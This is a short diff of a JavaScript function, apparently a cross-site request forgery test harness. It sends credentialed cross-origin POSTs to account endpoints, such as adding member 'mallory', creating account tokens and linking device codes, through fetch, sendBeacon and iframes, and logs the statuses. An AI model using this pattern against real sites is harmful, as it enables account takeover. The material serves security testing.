@@ -33,7 +33,7 @@ async function run() {
 		["/aliases/hook/settings/members", "user=mallory"], ["/account/tokens", "name=x&scopes=account"], ["/logout", ""], ["/events/EVENT/shares", "expires="], ["/link/k3yl1nk", "code=WXYZ-2345"]];
 	for (const [path, body] of acts) {
 		try { await fetch(base + path, {method: "POST", body, credentials: "include", mode: "no-cors", headers: {"Content-Type": "application/x-www-form-urlencoded"}}); } catch {}
-		try { const r = await fetch(base + path, {method: "POST", body, credentials: "include", headers: {"X-Partial": "1", "Content-Type": "application/x-www-form-urlencoded"}}); note("post " + path, String(r.status)); } catch {}
+		try { const r = await fetch(base + path, {method: "POST", body, credentials: "include", headers: {"X-Regions": "detail", "Content-Type": "application/x-www-form-urlencoded"}}); note("post " + path, String(r.status)); } catch {}
 		try { navigator.sendBeacon(base + path, new URLSearchParams(body)); } catch {}
 		const frame = document.createElement("iframe");
 		frame.name = "f" + path.replace(/\W/g, "");
